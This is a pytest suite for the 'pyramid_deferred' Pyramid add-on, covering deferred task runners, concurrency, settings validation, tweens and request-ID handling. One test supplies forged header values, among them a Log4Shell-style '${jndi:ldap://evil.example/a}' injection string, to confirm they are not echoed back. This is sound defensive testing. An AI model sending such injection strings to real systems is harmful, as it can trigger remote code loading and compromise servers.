"""``config.include("pyramid_deferred")`` in a plain Pyramid app: no container, no app code."""

from __future__ import annotations

import re
import threading
from collections.abc import Callable, Iterator
from typing import Any

import pytest
from pyramid.config import Configurator
from pyramid.exceptions import ConfigurationConflictError, ConfigurationExecutionError
from pyramid.interfaces import ITweens
from pyramid.request import Request
from pyramid.response import Response
from webtest import TestApp

import pyramid_deferred
from pyramid_deferred import DeferredTaskRunner, NoRunnerError, current_runner, deferred_scope
from pyramid_deferred.hook import get_hook

View = Callable[[Request], Response]


@pytest.fixture
def make_app(serve: Callable[[Configurator], TestApp]) -> Iterator[Callable[..., TestApp]]:

    def make(view: View, settings: dict[str, Any] | None = None,
             configure: Callable[[Configurator], None] | None = None) -> TestApp:
        config = Configurator(settings=settings or {})
        config.include("pyramid_deferred")
        if configure is not None:
            configure(config)
        config.add_route("view", "/")
        config.add_view(view, route_name="view")
        return serve(config)

    yield make


def test_with_no_setting_a_task_runs_once_after_the_response(make_app):
    trail: list[str] = []

    def view(request: Request) -> Response:
        request.deferred_task.defer(lambda: trail.append("task"), max_cost_seconds=1, name="a.task")
        trail.append("view")
        return Response("ok")

    app = make_app(view)
    assert app.get("/").text == "ok"
    assert trail == ["view", "task"]
    assert get_hook(app.app.registry).settings == pyramid_deferred.DeferredTaskSettings()


def test_the_request_s_runner_is_one_object_throughout_the_request_and_in_its_tasks(make_app):
    seen: list[DeferredTaskRunner] = []

    def nested() -> None:
        seen.append(current_runner())

    def view(request: Request) -> Response:
        seen.extend([request.deferred_task, current_runner()])
        current_runner().defer(lambda: current_runner().defer(nested, max_cost_seconds=1, name="a.child"),
                               max_cost_seconds=1, name="a.parent")
        return Response("ok")

    make_app(view).get("/")
    assert len(seen) == 3 and seen[0] is seen[1] is seen[2]


def test_concurrent_requests_get_their_own_runner(make_app):
    barrier = threading.Barrier(4)
    seen: list[tuple[int, int, int]] = []
    ran: list[int] = []
    lock = threading.Lock()

    def view(request: Request) -> Response:
        barrier.wait(timeout=5)  # all four requests are in flight together
        runner = request.deferred_task
        runner.defer(lambda: ran.append(id(current_runner())), max_cost_seconds=1, name="a.task")
        with lock:
            seen.append((id(runner), id(current_runner()), id(request)))
        return Response("ok")

    router = make_app(view).app
    threads = [threading.Thread(target=TestApp(router).get, args=("/",)) for _ in range(4)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(timeout=10)
    assert len(seen) == 4 and all(mine == looked_up for mine, looked_up, _ in seen)
    assert len({mine for mine, _, _ in seen}) == 4
    assert sorted(ran) == sorted(mine for mine, _, _ in seen)  # each task ran in its own request's runner


def test_outside_a_request_current_runner_refuses_and_says_what_to_do():
    with pytest.raises(NoRunnerError, match=r"deferred_scope\(\)"):
        current_runner()


def test_a_deferred_scope_runs_its_tasks_when_the_block_ends_and_only_always_ones_if_it_raised():
    trail: list[str] = []
    with deferred_scope() as runner:
        current_runner().defer(lambda: trail.append("ran"), max_cost_seconds=1, name="script.task")
        assert runner.has_tasks() and trail == []
    assert trail == ["ran"]
    with pytest.raises(RuntimeError), deferred_scope():
        current_runner().defer(lambda: trail.append("plain"), max_cost_seconds=1, name="script.plain")
        current_runner().defer(lambda: trail.append("always"), max_cost_seconds=1, name="script.audit",
                               always=True)
        raise RuntimeError("the script failed")
    assert trail == ["ran", "always"]


@pytest.mark.parametrize(
    ("settings", "environ", "named"),
    [
        ({"deferred_task.budget_seconds": "-1"}, {},
         r"deferred_task\.budget_seconds \(\.ini setting\)='-1'"),
        ({}, {"APP_DEFERRED_TASK_STRATEGY": "later"},
         r"APP_DEFERRED_TASK_STRATEGY='later'.*auto, close, thread"),
        ({"deferred_task.enabled": "true"}, {"APP_DEFERRED_TASK_ENABLED": "maybe"},
         "APP_DEFERRED_TASK_ENABLED"),
    ],
)
def test_a_bad_value_stops_make_wsgi_app_naming_the_key_or_variable(settings, environ, named, monkeypatch):
    for name, value in environ.items():
        monkeypatch.setenv(name, value)
    config = Configurator(settings=settings)
    config.include("pyramid_deferred")
    with pytest.raises(ConfigurationExecutionError, match=named):
        config.make_wsgi_app()


def test_one_tween_shows_in_its_place_outside_exception_views(make_app):
    app = make_app(lambda request: Response("ok"))
    names = [name for name, _ in app.app.registry.queryUtility(ITweens).implicit()]
    assert names == [
        "pyramid_deferred.tween.deferred_task_tween_factory",
        "pyramid.tweens.excview_tween_factory",
    ]


def test_the_add_on_subscribes_to_no_event(make_app):
    """Any subscriber makes Pyramid notify four events on every request (~6 µs measured)."""
    app = make_app(lambda request: Response("ok"))
    assert not app.app.registry.has_listeners


def test_two_runner_factories_in_one_configuration_are_a_conflict():
    config = Configurator()
    config.include("pyramid_deferred")
    config.set_deferred_task_runner_factory(DeferredTaskRunner)
    config.set_deferred_task_runner_factory(DeferredTaskRunner)
    with pytest.raises(ConfigurationConflictError):
        config.commit()


def test_a_runner_factory_builds_each_request_s_runner_with_the_settings(make_app):
    built: list[dict[str, Any]] = []

    def factory(**options: Any) -> DeferredTaskRunner:
        built.append(options)
        return DeferredTaskRunner(**options)

    app = make_app(lambda request: Response(str(request.deferred_task.budget_seconds)),
                   settings={"deferred_task.budget_seconds": "2.5"},
                   configure=lambda config: config.set_deferred_task_runner_factory(factory))
    assert app.get("/").text == "2.5" and app.get("/").text == "2.5"
    assert [options["budget_seconds"] for options in built] == [2.5, 2.5]


def test_the_request_id_is_echoed_and_can_be_switched_off(make_app):
    def view(request: Request) -> Response:
        return Response(getattr(request, "request_id", "none"))

    on = make_app(view).get("/", headers={"X-Request-ID": "req-42"})
    assert on.text == "req-42" and on.headers["X-Request-ID"] == "req-42"
    off = make_app(view, settings={"deferred_task.request_id": "false"}).get("/")
    assert off.text == "none" and "X-Request-ID" not in off.headers


def test_an_app_can_refuse_every_incoming_request_id(make_app):
    def view(request: Request) -> Response:
        return Response(request.request_id)

    app = make_app(view, settings={"deferred_task.trust_request_id_header": "false"})
    answer = app.get("/", headers={"X-Request-ID": "req-42"})
    assert answer.text == answer.headers["X-Request-ID"] != "req-42"
    assert re.fullmatch(r"[0-9a-f]{12}-[0-9a-f]+", answer.text)  # one of ours


@pytest.mark.parametrize("forged", ["req|ERROR|forged", "${jndi:ldap://evil.example/a}", "<b>x</b>"])
def test_an_incoming_id_outside_the_pattern_is_never_echoed(make_app, forged):
    app = make_app(lambda request: Response(request.request_id))
    answer = app.get("/", headers={"X-Request-ID": forged})
    assert answer.text == answer.headers["X-Request-ID"] != forged


def test_observers_get_each_request_s_report(make_app):
    reports: list[tuple[str, ...]] = []

    def view(request: Request) -> Response:
        request.deferred_task.defer(lambda: None, max_cost_seconds=1, name="a.observed")
        return Response("ok")

    app = make_app(view, configure=lambda config: config.add_deferred_task_observer(
        lambda batch, report: reports.append(report.executed)))
    app.get("/")
    assert reports == [("a.observed",)]


def test_a_failed_request_runs_only_its_always_tasks_after_the_error_response(make_app):
    trail: list[str] = []

    def view(request: Request) -> Response:
        request.deferred_task.defer(lambda: trail.append("purchase"), max_cost_seconds=1, name="a.purchase")
        request.deferred_task.defer(lambda: trail.append("audit"), max_cost_seconds=1, name="a.audit",
                                    always=True)
        if request.params.get("raise"):
            raise ValueError("the view crashed")
        return Response("bad", status=400)

    app = make_app(view)
    app.get("/", status=400)
    assert trail == ["audit"]
    with pytest.raises(ValueError, match="the view crashed"):
        app.get("/", params={"raise": "1"})
    get_hook(app.app.registry).worker.shutdown(grace_seconds=5)  # the safety net handed it off
    assert trail == ["audit", "audit"]


def test_work_that_outlives_its_request_cannot_defer_into_it_silently(make_app):
    """A thread the view started (or a pool thread) gets an error, never a queue nobody runs."""
    kept: list[DeferredTaskRunner] = []

    def view(request: Request) -> Response:
        kept.append(request.deferred_task)
        return Response("ok")

    make_app(view).get("/")
    errors: list[BaseException] = []

    def later() -> None:
        for attempt in (lambda: kept[0].defer(lambda: None, max_cost_seconds=1, name="a.late"),
                        current_runner):
            try:
                attempt()
            except (RuntimeError, NoRunnerError) as error:
                errors.append(error)

    thread = threading.Thread(target=later)
    thread.start()
    thread.join(timeout=5)
    assert len(errors) == 2 and all("deferred_scope" in str(error) for error in errors)


def test_response_callbacks_and_subscribers_reach_the_request_s_runner_too(make_app):
    """Past the tween, code without the request still finds its runner, and its tasks run."""
    trail: list[str] = []

    def on_response(event: Any) -> None:
        current_runner().defer(lambda: trail.append("from NewResponse"), max_cost_seconds=1, name="a.late")

    def view(request: Request) -> Response:
        request.add_response_callback(lambda request, response: current_runner().defer(
            lambda: trail.append("from a response callback"), max_cost_seconds=1, name="a.callback"))
        return Response("ok")

    from pyramid.events import NewResponse

    make_app(view, configure=lambda config: config.add_subscriber(on_response, NewResponse)).get("/")
    assert sorted(trail) == ["from NewResponse", "from a response callback"]
